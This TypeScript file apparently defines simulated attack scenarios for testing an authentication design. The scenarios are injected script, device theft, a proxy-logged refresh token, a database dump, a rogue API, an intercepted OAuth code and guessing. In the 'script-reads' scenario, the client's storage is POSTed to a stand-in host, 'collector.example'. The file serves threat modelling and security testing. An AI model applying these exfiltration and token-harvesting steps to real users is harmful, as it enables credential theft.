import { BLINK } from '../../scenarios/types.ts';
import { API, ELSEWHERE } from '../run/device.ts';
import { THEFT } from '../run/schedule.ts';
import { secret } from '../server/issue.ts';
import { learns } from './overheard.ts';
import type { Attack } from './types.ts';

const COLLECTOR = 'https://collector.example';

/** A script in the client's page reads its storage, sends it away, and the thief uses it from elsewhere. */
export const scriptReads: Attack = {
  id: 'script-reads',
  theft: {
    at: THEFT,
    happens: async (day) => {
      const { owner, world } = day;
      world.note({ kind: 'script', actor: 'client', code: 'injected' });
      const body = JSON.stringify(Object.fromEntries(owner.storage));
      const headers = [['Content-Type', 'application/json']] as const;
      await owner.send('exchange', { method: 'POST', path: '/', headers, body }, COLLECTOR);
      const [, sent = '{}'] = world.collected.split('\r\n\r\n');
      const taken = JSON.parse(sent) as Readonly<Record<string, string>>;
      learns(day, taken, 'script');
    },
  },
  begins: THEFT + 1,
};
/** A script in the client's page uses the client itself, whatever it holds. */
export const scriptActs: Attack = {
  id: 'script-acts',
  theft: {
    at: THEFT,
    happens: (day) => {
      day.world.note({ kind: 'script', actor: 'client', code: 'injected' });
      day.thief = day.owner;
      day.inside = true;
    },
  },
  begins: THEFT + 1,
};
/** The owner's device, unlocked, where it lies; he goes on with another. */
export const device: Attack = {
  id: 'stolen-device',
  theft: {
    at: THEFT,
    happens: (day) => {
      day.thief = day.owner;
      day.thief.user = null;
      day.world.tell('impostor', { type: 'LOOKED', found: true, reason: 'device' });
      day.thief.isTaken('device');
      day.owner = day.device('client');
      day.owner.user = BLINK;
    },
  },
  stays: true,
  begins: THEFT + 1,
};
/** A refresh token out of the log of a proxy that writes down answers, too. */
export const refreshToken: Attack = {
  id: 'stolen-refresh-token',
  refresh: true,
  theft: {
    at: 0,
    happens: async (day) => {
      const { owner, world, client } = day;
      owner.over = 'proxy';
      world.keepsAnswers = true;
      day.logins++;
      await client.logIn(owner);
      owner.over = 'https';
      world.keepsAnswers = false;
      const found = /"refresh_token":"([^"]+)"/.exec(world.overheard)?.[1];
      learns(day, found === undefined ? {} : { refresh_token: found }, 'logged');
    },
  },
  begins: THEFT + 1,
};
/** The server's store, read as it is kept. */
export const dump: Attack = {
  id: 'database-dump',
  theft: {
    at: THEFT,
    happens: (day) => {
      const { world, client } = day;
      const { tokens, refreshTokens, secrets } = world.server.kept;
      const text = JSON.stringify({
        tokens: [...tokens.keys()],
        refreshTokens: [...refreshTokens.keys()],
        // The key is no secret; what stands beside it is.
        secrets: Object.fromEntries([...secrets].map(([key, row]) => [key, row['secret']])),
      });
      world.note({
        kind: 'store',
        actor: 'impostor',
        store: 'capture',
        key: 'dump',
        row: { text },
      });
      learns(day, client.dumped(world.server.kept), 'dump');
    },
  },
  begins: THEFT + 1,
};
/** Another API, which the owner's client asks too, uses here what it was shown there. */
export const rogueApi: Attack = {
  id: 'rogue-api',
  theft: {
    at: THEFT,
    happens: async (day) => {
      const { owner, world, client } = day;
      const asked = await client.request(owner, `${ELSEWHERE}/api/aeroplanes`);
      await owner.send('askElsewhere', asked, ELSEWHERE);
      learns(day, client.found(world.collected), 'rogue');
    },
  },
  begins: THEFT + 1,
};
/** A code taken where the browser is sent back to: it comes to the thief, and never to the client (RFC 7636 1). */
export const code: Attack = {
  id: 'intercepted-code',
  stays: true,
  flow: 'code',
  theft: {
    at: 0,
    happens: async (day) => {
      const { owner, world, client } = day;
      world.listens = true;
      day.logins++;
      await client.logIn(owner);
      world.listens = false;
      const back = new URL(world.intercepted ?? API).searchParams;
      const found = Object.fromEntries(
        [...back].filter(([name]) => name === 'code' || name.startsWith('oauth_')),
      );
      learns(day, found, 'intercepted');
    },
  },
  begins: 0,
};
/** Nothing but chance: each minute another guess. */
export const guessing: Attack = {
  id: 'guessing',
  theft: {
    at: THEFT,
    happens: (day) => {
      learns(day, {}, 'nothing');
    },
  },
  begins: THEFT + 1,
  before: ({ thief, client }) => {
    for (const [name, value] of Object.entries(client.guessed(secret())))
      thief.keep(name, value, null);
  },
};
